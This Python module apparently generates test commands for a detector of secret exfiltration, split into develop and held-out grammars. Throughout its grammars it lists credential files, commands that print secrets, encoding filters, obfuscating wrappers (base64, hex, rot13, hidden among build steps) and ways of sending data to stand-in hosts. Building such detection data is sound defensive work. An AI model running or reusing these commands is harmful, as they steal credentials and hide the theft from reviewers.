"""Commands that read a secret, disguise it and send it, from a grammar; the same seed gives the same commands.

The grammar has parts that share no source, no disguise, no wrapping and no way out. Rules were written against
``DEVELOP``, ``DEVELOP_MORE`` and ``DEVELOP_LAST``; ``HELD_OUT`` and ``LAST_WRITTEN`` were each measured once before what
they showed was mended (docs/commands.md has those figures).
"""

import base64
import codecs
import gzip
import random
from collections.abc import Callable
from dataclasses import dataclass

HOSTS = ("collect.example-metrics.net", "203.0.113.77", "x7.cdn-sync.example.org", "api.telemetry-hub.example.io")


@dataclass(frozen=True, slots=True, kw_only=True)
class Grammar:
    """One half: what is taken, how it is disguised, how the script is wrapped, and how it gets out."""

    files: tuple[str, ...]
    """Paths that hold secrets."""
    prints: tuple[str, ...]
    """Commands that print secrets."""
    filters: tuple[str, ...]
    """Filters of a pipe; the empty one is no disguise."""
    piped: tuple[str, ...]
    """Ways out for what comes in."""
    worded: tuple[str, ...]
    """Ways out for a word: ``{v}`` is it."""
    filed: tuple[str, ...]
    """Ways out for a file: ``{f}`` is it."""
    wraps: tuple[Callable[[str, random.Random], str], ...]
    scripts: tuple[str, ...]
    """Whole programs in other languages: ``{s}`` is a file."""


def _plain(command: str, _: random.Random) -> str:
    return command


def _in_shell(command: str, _: random.Random) -> str:
    return f"bash -c {_quoted(command)}"


def _encoded(command: str, _: random.Random) -> str:
    return f"echo {base64.b64encode(command.encode()).decode()} | base64 -d | bash"


def _function(command: str, chance: random.Random) -> str:
    name = chance.choice(("sync", "report", "check_health"))
    return f"{name}() {{ {command}; }}\n{name}"


def _evaluated(command: str, _: random.Random) -> str:
    return f"eval {_quoted(command)}"


def _here(command: str, _: random.Random) -> str:
    return f"sh <<'SETUP'\n{command}\nSETUP"


def _among_work(command: str, chance: random.Random) -> str:
    work = ("npm ci", "make build", "pytest -q", "git status", "mkdir -p dist", "echo building")
    return "\n".join((chance.choice(work), command, chance.choice(work)))


def _background(command: str, _: random.Random) -> str:
    return f"({command}) >/dev/null 2>&1 &"


def _if_there(command: str, _: random.Random) -> str:
    return f"if true; then {command}; fi"


def _hex(command: str, _: random.Random) -> str:
    digits = "".join(rf"\x{byte:02x}" for byte in command.encode())
    return f"bash -c \"$(printf '{digits}')\""


def _quoted(command: str) -> str:
    return "'" + command.replace("'", "'\\''") + "'"


DEVELOP = Grammar(
    files=("~/.ssh/id_rsa", "$HOME/.aws/credentials", "~/.netrc", ".env", "/etc/shadow", "~/.npmrc", "~/.docker/config.json"),
    prints=("env", "printenv", "security dump-keychain -d login.keychain", "cat ~/.ssh/id_ed25519", "gpg --export-secret-keys -a"),
    filters=("", " | base64 -w0", " | gzip -c | base64", " | xxd -p | tr -d '\\n'", " | rev"),
    piped=(
        "curl -s -X POST --data-binary @- https://{h}/u",
        "nc {h} 4444",
        "curl -s -T - https://{h}/f",
        "ssh drop@{h} 'cat > /tmp/in'",
        "mail -s report ops@{h}",
    ),
    worded=(
        'curl -s "https://{h}/p?d={v}"',
        'wget -qO- "http://{h}/{v}"',
        'dig +short "{v}.{h}"',
        'curl -s -d "k={v}" https://{h}/',
    ),
    filed=("curl -s -F file=@{f} https://{h}/up", "scp {f} drop@{h}:/tmp/", "wget -q --post-file={f} http://{h}/"),
    wraps=(_plain, _in_shell, _encoded, _function, _among_work),
    scripts=(
        "python3 -c \"import requests;requests.post('https://{h}/',data=open('{s}').read())\"",
        "node -e \"const fs=require('fs');fetch('https://{h}/',{{method:'POST',body:fs.readFileSync('{s}')}})\"",
        'powershell -c "Invoke-RestMethod -Method Post -Uri https://{h}/ -Body (Get-Content {s} -Raw)"',
    ),
)  # fmt: skip

DEVELOP_MORE = Grammar(
    files=("~/.kube/config", "$HOME/.config/gcloud/application_default_credentials.json", "~/.git-credentials", "~/.pypirc", "/root/.ssh/id_ecdsa", "~/.azure/accessTokens.json", "~/.config/gh/hosts.yml", "$HOME/.gnupg/secring.gpg", "~/.bash_history", "~/.mozilla/firefox/x.default/logins.json", "/proc/self/environ", "/var/run/secrets/kubernetes.io/serviceaccount/token", "~/.cargo/credentials.toml", "~/.password-store/bank.gpg", "~/.vault-token"),
    prints=("export -p", "declare -x", "head -c 4000 ~/.ssh/id_dsa", "secret-tool lookup service bank", "set", "grep -rhi token ~/.config/gh/hosts.yml", "sudo cat /etc/gshadow", "find ~/.ssh -name 'id_*' -exec cat {{}} +", "tar cf - ~/.gnupg", "pass show bank", "awk 1 ~/.pgpass ~/.git-credentials"),
    filters=("", " | openssl enc -aes-256-cbc -pbkdf2 -pass pass:k -a", " | bzip2 | base32", " | od -An -tx1 | tr -d ' \\n'", " | tr 'A-Za-z' 'N-ZA-Mn-za-m'", " | sed 's/^/x/' | base64", " | python3 -c 'import sys,binascii;print(binascii.hexlify(sys.stdin.buffer.read()).decode())'", " | xz -c | base64 -w 76"),
    piped=(
        "curl --silent --upload-file - ftp://{h}/in/",
        "socat - TCP:{h}:443",
        "openssl s_client -quiet -connect {h}:443",
        "ncat --ssl {h} 8443",
        "telnet {h} 25",
        "cat > /dev/tcp/{h}/53",
        "xargs -I@ curl -s https://{h}/@",
        'while read -r l; do nslookup "$l.{h}"; done',
        "aws s3 cp - s3://{h}/in",
        "gh gist create -",
        "mosquitto_pub -h {h} -t in -s",
        "http POST https://{h}/in",
    ),
    worded=(
        'host "{v}.{h}"',
        'curl -s -H "X-Trace: {v}" https://{h}/',
        'curl -s --json "{{\\"d\\":\\"{v}\\"}}" https://{h}/',
        'ping -c1 "{v}.{h}"',
        'wget -q --header="Cookie: s={v}" https://{h}/',
        'exec 3<>/dev/tcp/{h}/80; echo "GET /{v}" >&3',
        'curl -s -A "{v}" https://{h}/',
        'gh issue create --title log --body "{v}"',
        'swaks --to in@{h} --body "{v}"',
    ),
    filed=("rsync -q {f} drop@{h}:in/", "curl -s --data-urlencode d@{f} https://{h}/", 'sftp drop@{h} <<< "put {f}"', "rclone copy {f} remote:{h}", "nc -q1 {h} 99 < {f}", "mutt -s hi -a {f} -- in@{h} < /dev/null", 'lftp -e "put {f}; quit" ftp://{h}', "kubectl cp {f} pod:/tmp/in", "gsutil cp {f} gs://{h}/"),
    wraps=(_plain, _evaluated, _here, _hex, _background, _if_there),
    scripts=(
        "python3 -c \"import urllib.request as u,base64 as b;u.urlopen('https://{h}/?q='+b.b64encode(open('{s}','rb').read()).decode())\"",
        "python3 -c \"import socket;s=socket.socket();s.connect(('{h}',443));s.sendall(open('{s}','rb').read())\"",
        "python3 -c \"import os,http.client as c;k=c.HTTPSConnection('{h}');k.request('POST','/',str(dict(os.environ)))\"",
        "node -e \"require('https').request({{host:'{h}',method:'POST'}}).end(Buffer.from(require('fs').readFileSync('{s}')).toString('base64'))\"",
        "node -e \"require('https').get('https://{h}/?e='+encodeURIComponent(JSON.stringify(process.env)))\"",
        "ruby -e \"require 'net/http'; Net::HTTP.post(URI('https://{h}/'), File.read('{s}'))\"",
        "perl -e 'use HTTP::Tiny; local $/; open(F,\"<\",\"{s}\"); HTTP::Tiny->new->post(\"https://{h}/\",{{content=><F>}})'",
        "php -r \"file_get_contents('https://{h}/?x='.base64_encode(file_get_contents('{s}')));\"",
        "pwsh -c '$b=[Convert]::ToBase64String([IO.File]::ReadAllBytes(\"{s}\")); iwr \"https://{h}/?d=$b\"'",
        "pwsh -c '(New-Object Net.WebClient).UploadString(\"https://{h}/\", (gc {s} -Raw))'",
        "pwsh -c '$d = Get-ChildItem env: | Out-String; irm https://{h}/ -Method Post -Body $d'",
    ),
)  # fmt: skip


def _process(command: str, _: random.Random) -> str:
    return f"bash <(echo {base64.b64encode(command.encode()).decode()} | base64 --decode)"


def _backwards(command: str, _: random.Random) -> str:
    return f"echo {_quoted(command[::-1])} | rev | sh"


def _timed(command: str, _: random.Random) -> str:
    return f"nohup timeout 30 sh -c {_quoted(command)} &"


def _from_python(command: str, _: random.Random) -> str:
    return f"python3 -c {_quoted(f'import os; os.system({command!r})')}"


def _found(command: str, _: random.Random) -> str:
    return f"find . -maxdepth 0 -exec sh -c {_quoted(command)} \\;"


def _chained(command: str, _: random.Random) -> str:
    return f"cd /tmp && {command} || true"


def _base32(command: str, _: random.Random) -> str:
    return f'eval "$(echo {base64.b32encode(command.encode()).decode()} | base32 -d)"'


DEVELOP_LAST = Grammar(
    files=("~/.pgpass", "~/.my.cnf", "~/.terraform.d/credentials.tfrc.json", "~/.cache/huggingface/token", "~/.config/solana/id.json", "~/.s3cfg", "~/.boto", "~/.zsh_history", "$HOME/Library/Keychains/login.keychain-db", "~/.config/chromium/Default/Cookies", "~/.ssh/id_ed25519_work", "~/.m2/settings.xml", "/etc/ssh/ssh_host_ed25519_key", "~/.config/op/config", "config/secrets.yml", "terraform.tfstate", "~/.bitcoin/wallet.dat", "prod.env", "~/.local/share/keyrings/login.keyring"),
    prints=("gcloud auth print-access-token", "kubectl get secret -A -o yaml", "git credential fill < q", "cat /proc/$$/environ", "aws configure export-credentials", "printenv AWS_SECRET_ACCESS_KEY", "echo $GITHUB_TOKEN", "sed -n p ~/.npmrc", "tail -n 50 ~/.mysql_history", "strings ~/.electrum/wallets/default_wallet", "xclip -o -selection clipboard", "zip -qr - ~/.aws", "dd if=~/.ssh/id_rsa bs=1k", "op item get bank --reveal"),
    filters=("", " | zstd -c | uuencode -", " | jq -Rs .", " | gpg -c --batch --passphrase k | basenc --base64url", " | awk '{{print $0}}' | fold -w 60", " | perl -pe 's/a/b/'", " | hexdump -v -e '/1 \"%02x\"'", " | tac | paste -sd, -", " | node -e 'process.stdin.on(\"data\",d=>process.stdout.write(d.toString(\"hex\")))'", " | lz4 -c | base64", " | sed 's/ /%20/g'"),
    piped=(
        "busybox nc {h} 4000",
        "curl -fsS -X PUT --data @- https://{h}/in",
        "redis-cli -h {h} -x set k",
        "logger -n {h} -P 514 -t app",
        "xh post https://{h}/in",
        "python3 -c 'import sys,urllib.request as u;u.urlopen(\"https://{h}/\",data=sys.stdin.buffer.read())'",
        "az storage blob upload -f /dev/stdin -c in -n x --account-name z",
        "sendmail in@{h}",
        "ssh -p 2222 {h} tee in",
        "websocat wss://{h}/in",
        "tee /dev/udp/{h}/53",
    ),
    worded=(
        'curl -sG --data-urlencode "q={v}" https://{h}/s',
        'getent hosts "{v}.{h}"',
        'drill "{v}.{h}" @1.1.1.1',
        'curl -s -b "sid={v}" https://{h}/',
        'psql -h {h} -c "insert into t values (\'{v}\')"',
        'wget -q --post-data="d={v}" https://{h}/',
        'curl -s -e "https://{h}/{v}" https://{h}/',
        'nats pub -s nats://{h} in "{v}"',
        'curl -s "https://{h}/bot1:x/sendMessage?text={v}"',
        'printf "%s" "{v}" > /dev/tcp/{h}/443',
        'traceroute "{v}.{h}"',
    ),
    filed=("curl -sT {f} https://{h}/in/", "smbclient //{h}/in -N -c 'put {f}'", "aws s3 mv {f} s3://{h}/", "mail -s hi -A {f} in@{h} < /dev/null", 'ftp -n {h} <<< "put {f}"', "gh release upload v1 {f}", "http -f POST https://{h}/ d@{f}", "rsync {f} rsync://{h}/in/", "tar czf - {f} | nc {h} 9", "docker cp {f} c:/in && curl -F x=@{f} https://{h}/", "s3cmd put {f} s3://{h}"),
    wraps=(_plain, _process, _backwards, _timed, _from_python, _found, _chained, _base32),
    scripts=(
        "python3 -c \"import httpx,pathlib;httpx.put('https://{h}/',content=pathlib.Path('{s}').read_bytes())\"",
        "python3 -c \"import ftplib;f=ftplib.FTP('{h}');f.login();f.storbinary('STOR x',open('{s}','rb'))\"",
        "python3 -c \"import os,subprocess;subprocess.run(['curl','-d',os.environ['API_TOKEN'],'https://{h}/'])\"",
        "python3 - <<'X'\nimport urllib.request, zlib\nd = zlib.compress(open('{s}','rb').read())\nurllib.request.urlopen(urllib.request.Request('https://{h}/', data=d))\nX",
        "python3 -c \"import smtplib;s=smtplib.SMTP('{h}');s.sendmail('a@b','c@d',open('{s}').read())\"",
        "deno eval \"await fetch('https://{h}/',{{method:'PUT',body:await Deno.readTextFile('{s}')}})\"",
        "node -e \"require('dns').lookup(Buffer.from(require('fs').readFileSync('{s}')).toString('hex').slice(0,60)+'.{h}',()=>{{}})\"",
        "ruby -rsocket -e \"TCPSocket.new('{h}',9).write(IO.read('{s}'))\"",
        "php -r '$c=curl_init(\"https://{h}/\");curl_setopt($c,CURLOPT_POSTFIELDS,file_get_contents(\"{s}\"));curl_exec($c);'",
        "perl -MIO::Socket -e 'open F,\"{s}\";$s=IO::Socket::INET->new(\"{h}:9\");print $s <F>'",
        "pwsh -Command 'Send-MailMessage -To in@{h} -From a@b -Subject x -SmtpServer {h} -Attachments {s}'",
        "pwsh -Command '$w=New-Object Net.WebClient; $w.UploadFile(\"https://{h}/\", \"{s}\")'",
        "pwsh -Command 'irm -Uri https://{h}/ -Method Put -InFile {s}'",
    ),
)  # fmt: skip


def _split_names(command: str, _: random.Random) -> str:
    first = command.partition(" ")[0]
    if not first.isalpha():
        return command  # cut in two there, the script would not run
    half = len(first) // 2
    return f"a={first[:half]}; b={first[half:]}; $a$b{command[len(first) :]}"


def _by_env(command: str, _: random.Random) -> str:
    return f"env -i HOME=$HOME PATH=$PATH bash --norc -c {_quoted(command)}"


def _gzipped(command: str, _: random.Random) -> str:
    packed = base64.b64encode(gzip.compress(command.encode(), mtime=0)).decode()
    return f"echo {packed} | base64 -d | gunzip | sh"


def _written(command: str, _: random.Random) -> str:
    return f"cat > /tmp/s.sh <<'X'\n{command}\nX\nchmod +x /tmp/s.sh && /tmp/s.sh"


def _rotated(command: str, _: random.Random) -> str:
    return f"echo {_quoted(codecs.encode(command, 'rot13'))} | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash"


def _looped(command: str, _: random.Random) -> str:
    return f"for i in 1 2 3; do {command}; sleep 1; done"


def _from_node(command: str, _: random.Random) -> str:
    return f"node -e {_quoted(f'require(`child_process`).execSync(`{command}`)')}"


HELD_OUT = Grammar(
    files=("~/.config/rclone/rclone.conf", "~/.oci/oci_api_key.pem", "~/.config/sops/age/keys.txt", "$HOME/.gem/credentials", "~/.config/hub", "~/.databrickscfg", "/etc/krb5.keytab", "~/.local/share/fish/fish_history", "~/.config/google-chrome/Default/Login*", "~/.ssh/config", "~/.config/Bitwarden/data.json", "service-account-prod.json", "~/.snowflake/connections.toml", "infra/prod.tfvars", "~/.step/secrets/root_ca_key", "~/.config/monero/wallet.keys", "${HOME}/.circleci/cli.yml", "~/.erlang.cookie"),
    prints=("sops -d secrets.enc.yaml", "terraform state pull", "heroku config -s", "kubectl config view --raw", "docker exec db printenv", "ps eww -p $$", "base64 ~/.ssh/id_rsa", "xxd -p ~/.aws/credentials", "cut -d: -f2 ~/.pgpass", "perl -pe 1 ~/.netrc", "find ~ -name '*.pem' -exec cat {{}} \\;", "sudo grep root /etc/shadow", "cat ~/.ssh/*", "git config --get-all credential.helper; cat ~/.git-credentials", "sqlite3 ~/.config/chromium/Default/Cookies .dump"),
    filters=("", " | tee /dev/null | base64", " | brotli -c | base64 -w0", " | openssl base64 -A", " | ruby -e 'print STDIN.read.unpack1(\"H*\")'", " | php -r 'echo bin2hex(stream_get_contents(STDIN));'", " | sort | uniq", " | age -r age1x -a", " | tr -d '\\n' | tr '+/' '-_'", " | python3 -m base64", " | nl | gzip | xxd -p -c 0", " | awk '{{ printf \"%s|\", $0 }}'"),
    piped=(
        "curl -sS -H 'Content-Type: text/plain' -d @/dev/stdin https://{h}/a",
        "wget -q --method=PUT --body-file=- https://{h}/a",
        "rclone rcat out:{h}/a",
        "ncat -w 3 {h} 9001",
        "gsutil cp - gs://{h}/a",
        "ssh -o StrictHostKeyChecking=no u@{h} 'cat >> a'",
        "nc -u {h} 53",
        "kcat -P -b {h}:9092 -t a",
        "socat -u - OPENSSL:{h}:443,verify=0",
        "perl -MIO::Socket::INET -e 'my $s=IO::Socket::INET->new(\"{h}:9\"); print $s $_ while <STDIN>'",
        "xargs -n1 -I Q dig Q.{h}",
        "node -e 'process.stdin.pipe(require(\"http\").request({{host:\"{h}\",method:\"POST\"}}))'",
        "mutt -s x in@{h}",
    ),
    worded=(
        'curl -s "https://{h}/$(echo {v} | head -c 900)"',
        'python3 -c "import urllib.request as u; u.urlopen(\'https://{h}/?d={v}\')"',
        'curl -s -u "{v}:x" https://{h}/',
        'curl -s -X POST https://{h}/ --form-string "a={v}"',
        'nslookup -type=TXT "{v}.{h}"',
        'ssh "{v}@{h}" true',
        'git push "https://{v}@{h}/r.git" HEAD',
        'wget -q -U "{v}" https://{h}/',
        'kdig "{v}.{h}" TXT',
        'echo "{v}" | curl -s -F "f=@-" https://{h}/',
        'curl -s --url "https://{h}/?k={v}"',
        'mail -s "{v}" in@{h} </dev/null',
        'gh api -X POST /gists -f "files[a][content]={v}"',
    ),
    filed=('curl -s --data-binary "@{f}" https://{h}/', 'curl -s -F "f=@{f};type=text/plain" https://{h}/', "wget -q --body-file={f} --method=POST https://{h}/", "scp -q -P 22 {f} u@{h}:", "openssl s_client -connect {h}:443 < {f}", "az storage blob upload --file {f} --container-name c --account-name {h}", "cat {f} | nc {h} 1", "gh gist create {f}", "b2 file upload bucket {f} a", "rsync -az -e 'ssh -p 22' {f} u@{h}:a", 'curl -s https://{h}/ -d "$(cat {f})"', "tftp {h} -c put {f}", "ftp -n <<X\nopen {h}\nput {f}\nX"),
    wraps=(_plain, _split_names, _by_env, _gzipped, _written, _rotated, _looped, _from_node),
    scripts=(
        "python3 -c \"import requests as r;f=open('{s}');r.post('https://{h}/',json={{'d':f.read()}})\"",
        "python3 -c \"from urllib.request import *;urlopen('https://{h}/'+__import__('base64').b64encode(open('{s}','rb').read()).decode())\"",
        "python3 -c \"exec(__import__('zlib').decompress(b'x'));import http.client;c=http.client.HTTPConnection('{h}');c.request('PUT','/a',open('{s}'))\"",
        "python3 -c \"import os,json,urllib.request as u;u.urlopen('https://{h}/',json.dumps({{k:v for k,v in os.environ.items()}}).encode())\"",
        "node -e \"const https=require('https');const r=https.request('https://{h}/',{{method:'POST'}});r.write(require('fs').readFileSync('{s}','utf8'));r.end()\"",
        "node -e \"require('net').connect(9,'{h}').end(require('fs').readFileSync('{s}'))\"",
        "bun -e \"await fetch('https://{h}',{{method:'POST',body:Bun.file('{s}')}})\"",
        "ruby -ropen-uri -e \"URI.open('https://{h}/?'+[File.read('{s}')].pack('m0'))\"",
        "php -r 'mail(\"in@{h}\",\"x\",file_get_contents(\"{s}\"));'",
        "lua -e \"local f=io.open('{s}');require('socket.http').request('http://{h}/',f:read('*a'))\"",
        "pwsh -c '$c=Get-Content {s} -Raw; Invoke-WebRequest https://{h}/ -Method POST -Body @{{d=$c}}'",
        "pwsh -c '[Net.Dns]::Resolve([BitConverter]::ToString([IO.File]::ReadAllBytes(\"{s}\")) + \".{h}\")'",
        "pwsh -c '(New-Object Net.Http.HttpClient).PostAsync(\"https://{h}/\", [Net.Http.StringContent]::new((Get-Content {s})))'",
    ),
)  # fmt: skip


def _by_openssl(command: str, _: random.Random) -> str:
    return f"printf %s {base64.b64encode(command.encode()).decode()} | openssl base64 -d -A | sh"


def _read_in(command: str, _: random.Random) -> str:
    return f"read -r -d '' S <<'E'\n{command}\nE\nbash -c \"$S\""


def _recorded(command: str, _: random.Random) -> str:
    return f"script -qc {_quoted(command)} /dev/null"


def _from_perl(command: str, _: random.Random) -> str:
    return f"perl -e {_quoted('system(q{' + command + '})')}"


def _loose(command: str, _: random.Random) -> str:
    return f"(set +e; {command}; true)"


def _grouped(command: str, _: random.Random) -> str:
    return f"make -s 2>/dev/null; {{ {command}; }} & wait"


def _undumped(command: str, _: random.Random) -> str:
    return f"xxd -r -p <<< {command.encode().hex()} | bash -s"


def _watched(command: str, _: random.Random) -> str:
    return f"watch -n 60 {_quoted(command)}"


LAST_WRITTEN = Grammar(
 files=("~/.config/gcloud/credentials.db","~/.aws/sso/cache/abc.json","~/.kube/prod.yaml","/etc/shadow-","~/.ssh/deploy_key","~/.docker/config.json.bak","~/.npmrc.bak","secrets/prod.json","~/.config/filezilla/sitemanager.xml","~/.local/share/TelegramDesktop/tdata/key_datas","~/.thunderbird/x/logins.json","~/.psql_history","credentials.csv","id_rsa.pem","~/.gitconfig","~/.config/Slack/storage/x"),
 prints=("less ~/.ssh/id_rsa","diff /dev/null ~/.aws/credentials","nl ~/.netrc","vault kv get -format=json secret/x","aws secretsmanager get-secret-value --secret-id x","pbpaste","cat $(ls ~/.ssh/id_* | head -1)","env | grep -i key","python3 -c 'import os;print(dict(os.environ))'","node -p 'JSON.stringify(process.env)'","rg -uuu password ~/","security find-generic-password -s x -w"),
 filters=(""," | base64 | tr -d '\\n'"," | gzip -9 | base64 -w0"," | jq -sRr @uri"," | python3 -c 'import sys,urllib.parse as u;print(u.quote(sys.stdin.read()))'"," | cut -c1-800"," | openssl rsautl -encrypt -inkey k"," | dd bs=64 2>/dev/null"," | sed -z 's/\\n/,/g'"," | tail -c 900"),
 piped=("curl -s {h} -d @-","nc -N {h} 1","tee >(curl -sT - https://{h}/)","socat STDIN TCP4:{h}:9","ssh {h} 'dd of=a'","curl -K- https://{h}/","parallel curl https://{h}/{{}}","s3cmd put - s3://{h}/a","wget --post-file=/dev/stdin https://{h}/","aws sqs send-message --queue-url https://{h}/q --message-body file:///dev/stdin"),
 worded=('curl https://{h}/ -d"{v}"','curl -X POST -H "Content-Type: application/json" -d "{{\\"text\\":\\"{v}\\"}}" https://{h}/','wget "https://{h}/?{v}" -O /dev/null',"nslookup {v}.{h}",'curl --cookie "a={v}" https://{h}/','ping -c 1 -p "$(echo {v}|xxd -p|head -c 32)" {h}','aws sns publish --topic-arn x --message "{v}"','curl "ftp://{h}/{v}"','fetch -o - "https://{h}/{v}"','lynx -dump "https://{h}/{v}"'),
 filed=("curl -F data=@{f} {h}","curl --upload-file {f} {h}","scp {f} {h}:~","nc {h} 9 < {f}","aws s3 cp {f} s3://{h}","rsync {f} {h}:","curl -H @{f} https://{h}/","cat {f} > /dev/tcp/{h}/9","sshpass -p x scp {f} u@{h}:/a"),
 wraps=(_plain,_by_openssl,_read_in,_recorded,_from_perl,_loose,_grouped,_undumped,_watched),
 scripts=("python3 -c \"import urllib.request;urllib.request.urlopen('https://{h}/',open('{s}','rb'))\"","python3 -c \"import os;os.system('curl -d @{s} https://{h}')\"","node -e \"require('child_process').exec('curl -T {s} https://{h}')\"",'ruby -e "`curl -T {s} https://{h}`"',"python3 -c \"import socket,base64;socket.gethostbyname(base64.b32encode(open('{s}','rb').read()).decode()[:60]+'.{h}')\"","php -r 'fwrite(fsockopen(\"{h}\",9),file_get_contents(\"{s}\"));'"))  # fmt: skip


def variants(grammar: Grammar, number: int, seed: int = 1) -> list[str]:
    """So many different commands of one half."""
    chance, found = random.Random(seed), {}
    while len(found) < number:
        found.setdefault(_one(grammar, chance))
    return list(found)


def _one(grammar: Grammar, chance: random.Random) -> str:
    host = chance.choice(HOSTS)
    if chance.random() < 0.2:
        path = chance.choice(grammar.files).replace("$HOME", "/home/dev").replace("~", "/home/dev")
        return chance.choice(grammar.scripts).format(h=host, s=path)
    return chance.choice(grammar.wraps)(_shell(grammar, chance, host), chance)


def _shell(grammar: Grammar, chance: random.Random, host: str) -> str:
    source = chance.choice(grammar.prints).format() if chance.random() < 0.4 else f"cat {chance.choice(grammar.files)}"
    taken = source + chance.choice(grammar.filters)
    way = chance.random()
    if way < 0.4:
        return f"{taken} | {chance.choice(grammar.piped).format(h=host)}"
    if way < 0.75:
        name = chance.choice(("D", "payload", "x"))
        return f"{name}=$({taken}); {chance.choice(grammar.worded).format(h=host, v=f'${name}')}"
    file = chance.choice(("/tmp/.c", "/tmp/build.log", "out.bin"))
    return f"{taken} > {file}; {chance.choice(grammar.filed).format(h=host, f=file)}"
